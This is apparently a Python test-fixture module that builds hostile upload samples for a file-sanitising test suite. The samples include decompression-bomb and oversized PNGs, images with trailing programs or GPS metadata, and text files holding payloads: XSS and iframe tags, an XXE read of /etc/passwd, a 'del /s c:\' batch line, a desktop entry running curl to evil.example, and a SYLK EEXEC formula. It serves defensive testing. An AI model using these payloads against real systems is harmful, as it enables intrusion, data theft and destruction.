"""Text and images: programs in disguise, bombs, cut off; and images that carry more than a picture."""

import io
import struct
import zlib

from PIL import Image
from PIL.PngImagePlugin import PngInfo

from tests.evidence import files
from tests.evidence.corpus.names import PAGE, PHP, PROGRAM, ZIP
from tests.evidence.corpus.sample import Sample, samples

SECRET = b"52.2819N 1.5849W The Close"


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack("!I", len(data)) + kind + data + struct.pack("!I", zlib.crc32(kind + data))


def png_of(width: int, height: int) -> bytes:
    """So big, it says, with next to nothing in it."""
    head = struct.pack("!IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = zlib.compress(bytes(10_000))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", body) + chunk(b"IEND", b"")


def png_with(kind: bytes, data: bytes) -> bytes:
    """A real one with one more part, before its pixels."""
    whole = files.image("PNG")
    at = whole.index(b"IDAT") - 4
    return whole[:at] + chunk(kind, data) + whole[at:]


def jpeg_of(width: int, height: int) -> bytes:
    data = bytearray(files.image("JPEG"))
    at = data.index(b"\xff\xc0")
    data[at + 5 : at + 9] = struct.pack("!HH", height, width)
    return bytes(data)


def damaged(data: bytes, at: float) -> bytes:
    place = int(len(data) * at)
    return data[:place] + bytes([data[place] ^ 0xFF]) + data[place + 1 :]


TEXT = samples(
    "text",
    [
        ("page.txt", b" \n\t" + PAGE),
        ("page.csv", b"\xef\xbb\xbf<html><body>"),
        ("comment.csv", b"<!-- made by a system --><script>alert(1)</script>"),
        ("wide.txt", PAGE.decode().encode("utf-16")),
        ("wide other.csv", "<iframe src=//evil.example>".encode("utf-16-be").join([b"\xfe\xff", b""])),
        ("frame.txt", b"<iframe src='https://evil.example'>"),
        ("object.txt", b"<object data='x.swf'>"),
        ("xml.txt", b"<?xml version='1.0'?><!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>"),
        ("php.csv", PHP),
        ("template.txt", b"<% Runtime.exec() %>"),
        ("shell.txt", b"#!/usr/bin/env python3\nimport os"),
        ("batch.txt", b"@echo off\r\ndel /s c:\\"),
        ("keys.txt", "Windows Registry Editor Version 5.00\r\n".encode("utf-16")),
        ("old keys.txt", b"REGEDIT4\r\n[HKEY_LOCAL_MACHINE]"),
        ("shortcut.txt", b"[InternetShortcut]\r\nURL=file://evil.example/share"),
        ("entry.txt", b"[Desktop Entry]\nExec=sh -c 'curl evil.example'"),
        ("start.txt", b"[autorun]\r\nopen=setup.exe"),
        ("mail page.txt", b"MIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n<html>"),
        ("sylk.csv", b'ID;PWXL;N;E\r\nO;E\r\nC;X1;Y101;EEXEC("calc")\r\n'),
        ("script.txt", b"{\\rtf1{\\object\\objautlink}}"),
        ("print.txt", b"%!PS-Adobe-3.0\n(/etc/passwd) (r) file"),
        ("nul.csv", b"a,b\0c"),
        ("escape.txt", b"\x1b]0;title\x07\x1b[2J"),
        ("bell.csv", b"a\x07,b"),
        ("not utf.txt", b"\xff\xfe\x00\xd8\x00"),
        ("no encoding.csv", b"\x81\x8d\x8f\x90\x9d"),
        ("nothing.txt", b""),
        ("nothing.pdf", b""),
        ("too big.txt", lambda: b"x" * (25 * 1024**2 + 1)),
    ],
)

IMAGES = samples(
    "images",
    [
        ("wide.png", lambda: png_of(60_000, 60_000)),
        ("long.png", lambda: png_of(1, 2**31 - 1)),
        ("nothing.png", lambda: png_of(0, 0)),
        ("without pixels.png", lambda: png_of(3_000, 3_000)),
        ("wide.jpg", lambda: jpeg_of(65_000, 65_000)),
        ("cut.png", files.image("PNG")[:60]),
        ("cut.jpg", files.image("JPEG")[:300]),
        ("head.jpg", files.image("JPEG")[:20]),
        ("checksum.png", lambda: damaged(files.image("PNG"), 0.6)),
        ("packed words.png", lambda: png_with(b"zTXt", b"a\0\0" + zlib.compress(bytes(200 * 1024**2), 9))),
        ("packed profile.png", lambda: png_with(b"iCCP", b"a\0\0" + zlib.compress(bytes(200 * 1024**2), 9))),
        ("no end.png", b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", 9, 9, 8, 2, 0, 0, 0))),
        (
            "other depth.png",
            b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", 9, 9, 3, 7, 9, 9, 9)),
        ),
        ("endless.png", b"\x89PNG\r\n\x1a\n" + struct.pack("!I", 2**31 - 1) + b"IHDR" + bytes(40)),
    ],
)

SAMPLES: list[Sample] = [*TEXT, *IMAGES]


def with_exif(kind: str) -> bytes:
    """Where and when, as a telephone notes it."""
    image = Image.new("RGB", (40, 20), "purple")
    exif = Image.Exif()
    exif[0x010E] = SECRET.decode()  # description
    exif[0x8825] = {1: "N", 2: (52.0, 16.0, 54.0), 3: "W", 4: (1.0, 35.0, 5.0)}
    stream = io.BytesIO()
    image.save(stream, kind, exif=exif)
    return stream.getvalue()


def with_comment() -> bytes:
    image = Image.new("RGB", (40, 20), "purple")
    stream = io.BytesIO()
    image.save(stream, "JPEG", comment=SECRET + PAGE)
    return stream.getvalue()


def with_words() -> bytes:
    words = PngInfo()
    words.add_text("Comment", SECRET.decode())
    words.add_itxt("XML:com.adobe.xmp", PAGE.decode())
    stream = io.BytesIO()
    Image.new("RGBA", (40, 20), "purple").save(stream, "PNG", pnginfo=words, icc_profile=SECRET)
    return stream.getvalue()


_BEHIND = {"page": PAGE, "program": PROGRAM, "archive": ZIP, "pdf": files.pdf(), "php": PHP}
DISARMED: list[tuple[Sample, bytes]] = [
    *(
        (Sample("image and more", f"{what} behind.{ending}", lambda d=data, k=kind: files.image(k) + d), data)
        for what, data in _BEHIND.items()
        for ending, kind in (("png", "PNG"), ("jpg", "JPEG"))
    ),
    (Sample("image and more", "where.jpg", lambda: with_exif("JPEG")), SECRET),
    (Sample("image and more", "where.png", lambda: with_exif("PNG")), SECRET),
    (Sample("image and more", "comment.jpg", with_comment), SECRET),
    (Sample("image and more", "page in it.jpg", with_comment), PAGE),
    (Sample("image and more", "words.png", with_words), SECRET),
    (Sample("image and more", "page in it.png", with_words), PAGE),
    (Sample("image and more", "part.png", lambda: png_with(b"evIl", PROGRAM)), PROGRAM),
]
